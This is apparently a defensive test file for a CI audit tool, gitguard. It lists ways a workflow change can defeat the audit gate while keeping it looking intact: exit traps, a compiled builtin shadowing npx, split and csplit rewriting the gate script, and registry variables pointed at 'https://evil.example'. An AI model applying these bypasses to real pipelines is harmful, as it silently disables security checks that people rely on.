// redteam173: ways a change keeps a job looking like gitguard's gate while the audit no longer
// decides it. bash's own state: `trap -- 'exit 0' EXIT` (trap's `--` was read as the handler),
// `trap 'exit 0' DEBUG` (runs before each command), `enable -f ./x.so npx` (a builtin loaded from a
// file answers for npx), `command_not_found_handle`. The package managers' settings from the
// environment (COREPACK_*, YARN_*, PNPM_*, BUN_*, pnpm_config_*), in front of npx, in `env:` or
// $GITHUB_ENV. split and csplit writing a chain file by a prefix and a suffix of their choosing,
// objcopy, a compiler's `-o`. Each lost case kept the gate (exit 0) before; each honest twin keeps it.
import { execFileSync } from 'node:child_process';
import { cleanupTemp } from '../helpers/repo.js';
import { gateBatch } from '../helpers/gate-batch.js';
import { cleanupJobs, jobPasses } from '../helpers/real-job.js';

afterAll(() => {
  cleanupTemp();
  cleanupJobs();
});

type Files = Record<string, string>;
const WF = '.github/workflows/ci.yml';
const AUDIT = 'npx gitguard audit';
const HEAD = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n';
const step = (run: string, env?: Files): string =>
  `      - run: ${JSON.stringify(run)}\n${
    env
      ? `        env:\n${Object.entries(env)
          .map(([k, v]) => `          ${k}: ${JSON.stringify(v)}\n`)
          .join('')}`
      : ''
  }`;
/** A workflow whose gate step runs `lines` then the audit (`env`: the step's). */
const own = (lines: string[], env?: Files): Files => ({ [WF]: HEAD + step([...lines, AUDIT].join('\n'), env) });
/** A workflow: a step running `earlier`, then the gate step. */
const after = (earlier: string): Files => ({ [WF]: HEAD + step(earlier) + step(AUDIT) });
const HONEST = own([]);

// A loadable builtin named npx that succeeds (bash's `struct builtin`, declared here without its headers).
const BUILTIN = `struct word_list;
struct builtin { char *name; int (*function)(struct word_list *); int flags; char *const *long_doc; const char *short_doc; char *handle; };
static int ok(struct word_list *l) { (void)l; return 0; }
static char *doc[] = { "", (char *)0 };
struct builtin npx_struct = { "npx", ok, 1, doc, "npx", 0 };
`;

describe("redteam173: the attacks pass a real job whose audit fails (the runner's bash)", () => {
  const gate = (lines: string[]) => [{ run: [...lines, AUDIT].join('\n') }];
  it('the audit fails with nothing in front of it', () => {
    expect(jobPasses(gate([]))).toBe(false);
  });
  it.each([["trap -- 'exit 0' EXIT"], ["trap 'exit 0' DEBUG"]])('%s', (line) => {
    expect(jobPasses(gate([line]))).toBe(true);
  });
  it('enable -f ./ci/x.so npx', () => {
    let gcc = true;
    try {
      execFileSync('gcc', ['--version']);
    } catch {
      gcc = false;
    }
    if (!gcc) return; // no compiler here: the verdict below still holds
    const steps = [{ run: 'gcc -shared -fPIC -o ci/x.so ci/x.c' }, ...gate(['enable -f ./ci/x.so npx'])];
    expect(jobPasses(steps, { 'ci/x.c': BUILTIN })).toBe(true);
  });
  it.each([
    ["printf 'exit 0\\n' > /tmp/p$$ && split -n1 -a1 --hex-suffixes=e --additional-suffix=.sh /tmp/p$$ ci/gat"],
    ["printf 'exit 0\\nx\\n' > /tmp/p$$ && csplit -s -f ci/gate. -b 'sh%.0d' /tmp/p$$ 2"],
  ])('%s, then bash ci/gate.sh', (line) => {
    const files = { 'ci/gate.sh': `${AUDIT}\n` };
    expect(jobPasses([{ run: 'bash ci/gate.sh' }], files)).toBe(false);
    expect(jobPasses([{ run: line }, { run: 'bash ci/gate.sh' }], files)).toBe(true);
  });
});

describe("redteam173: bash's state and the package managers' settings", () => {
  const batch = gateBatch();
  const lost: Array<[string, Files]> = [
    ["trap -- 'exit 0' EXIT", own(["trap -- 'exit 0' EXIT"])],
    ["trap 'exit 0' DEBUG", own(["trap 'exit 0' DEBUG"])],
    ['shopt -s extdebug; trap false debug', own(['shopt -s extdebug', 'trap false debug'])],
    ['enable -f ./ci/x.so npx', own(['enable -f ./ci/x.so npx'])],
    ['enable -n printf', own(['enable -n printf'])],
    ['command_not_found_handle', own(['command_not_found_handle() { return 0; }'])],
    ['COREPACK_NPM_REGISTRY in front of npx', own([], undefined)],
    ['COREPACK_NPM_REGISTRY in env:', own([], { COREPACK_NPM_REGISTRY: 'https://evil.example' })],
    ['COREPACK_HOME in env:', own([], { COREPACK_HOME: 'ci/corepack' })],
    ['COREPACK_INTEGRITY_KEYS in env:', own([], { COREPACK_INTEGRITY_KEYS: '0' })],
    ['YARN_RC_FILENAME via $GITHUB_ENV', after('echo "YARN_RC_FILENAME=ci/x.yml" >> "$GITHUB_ENV"')],
    ['yarn_npm_registry_server in env:', own([], { YARN_NPM_REGISTRY_SERVER: 'https://evil.example' })],
    ['PNPM_HOME in env:', own([], { PNPM_HOME: 'ci/bin' })],
    ['pnpm_config_registry in env:', own([], { pnpm_config_registry: 'https://evil.example' })],
    ['BUN_INSTALL in env:', own([], { BUN_INSTALL: 'ci' })],
    ['NPM_CONFIG_REGISTRY in env:', own([], { NPM_CONFIG_REGISTRY: 'https://evil.example' })],
  ];
  lost[6]![1] = { [WF]: HEAD + step(`COREPACK_NPM_REGISTRY=https://evil.example ${AUDIT}`) };
  const kept: Array<[string, Files]> = [
    ["trap 'rm -f /tmp/x' EXIT", own(["trap 'rm -f /tmp/x' EXIT"])],
    ['trap - DEBUG', own(['trap - DEBUG'])],
    ['enable -p', own(['enable -p'])],
    ['a function of another name', own(['say() { echo "$@"; }', 'say hi'])],
    ['COREPACK_ENABLE_DOWNLOAD_PROMPT: 0', own([], { COREPACK_ENABLE_DOWNLOAD_PROMPT: '0' })],
    ['YARN_ENABLE_PROGRESS_BARS: false', own([], { YARN_ENABLE_PROGRESS_BARS: 'false' })],
  ];
  for (const [name, files] of lost) it(`lost: ${name}`, batch.add(HONEST, files, false), 600_000);
  for (const [name, files] of kept) it(`kept: ${name}`, batch.add(HONEST, files, true), 600_000);
});

describe('redteam173: writers of a chain file before bash ci/gate.sh', () => {
  const FILES = { 'ci/gate.sh': `. ci/lib.sh\n${AUDIT}\n`, 'ci/lib.sh': 'set -e\n' };
  const chain = (earlier: string): Files => ({ ...FILES, [WF]: HEAD + step(earlier) + step('bash ci/gate.sh') });
  const batch = gateBatch();
  const LOST = [
    'split -n1 -a1 --hex-suffixes=e --additional-suffix=.sh /tmp/p ci/gat',
    "csplit -s -f ci/gate. -b 'sh%.0d' /tmp/p 2",
    "csplit -s --prefix=ci/lib. -b 'sh%.0d' /tmp/p 2",
    'split /tmp/p',
    'objcopy -I binary -O binary /tmp/p ci/lib.sh',
    'gcc -o ci/gate.sh /tmp/x.c',
    'go build -o ci/gate.sh ./tools/x',
    'git ls-files | xargs split',
  ];
  const KEPT = [
    'split -l 1000 /tmp/big.log /tmp/part.',
    "csplit -s -f /tmp/part. /tmp/big.log '/^--$/' '{*}'",
    'gcc -o /tmp/x /tmp/x.c',
  ];
  const HONEST_CHAIN = chain('true');
  for (const c of LOST) it(`lost: ${c}`, batch.add(HONEST_CHAIN, chain(c), false), 600_000);
  for (const c of KEPT) it(`kept: ${c}`, batch.add(HONEST_CHAIN, chain(c), true), 600_000);
});

// GitLab deep-merges the included job of the gate's name into it: a `variables:` entry the job no
// longer sets is the included job's (`GITGUARD_FAIL_ON: none` there), as a whole key dropped was.
describe('redteam173: GitLab, a gate job drops one of its variables under a remote include', () => {
  const CI = '.gitlab-ci.yml';
  const REMOTE = 'include:\n  - remote: https://example.com/ci/setup.yml\n';
  const job = (vars: Files, script = 'npx gitguard audit --fail-on "$FAIL_ON"'): Files => ({
    [CI]: `${REMOTE}gitguard:\n  image: node:20\n  variables:\n${Object.entries(vars)
      .map(([k, v]) => `    ${k}: ${v}\n`)
      .join('')}  script:\n    - ${script}\n`,
  });
  const start = job({ GIT_DEPTH: '0', FAIL_ON: 'high' });
  const batch = gateBatch(start);
  it('lost: FAIL_ON dropped', batch.add(start, job({ GIT_DEPTH: '0' }), false), 600_000);
  it('lost: GIT_DEPTH dropped', batch.add(start, job({ FAIL_ON: 'high' }), false), 600_000);
  it(
    'kept: a variable added',
    batch.add(start, job({ GIT_DEPTH: '0', FAIL_ON: 'high', CI_DEBUG: '0' }), true),
    600_000,
  );
  it('kept: a value edited', batch.add(start, job({ GIT_DEPTH: '0', FAIL_ON: 'medium' }), true), 600_000);
});
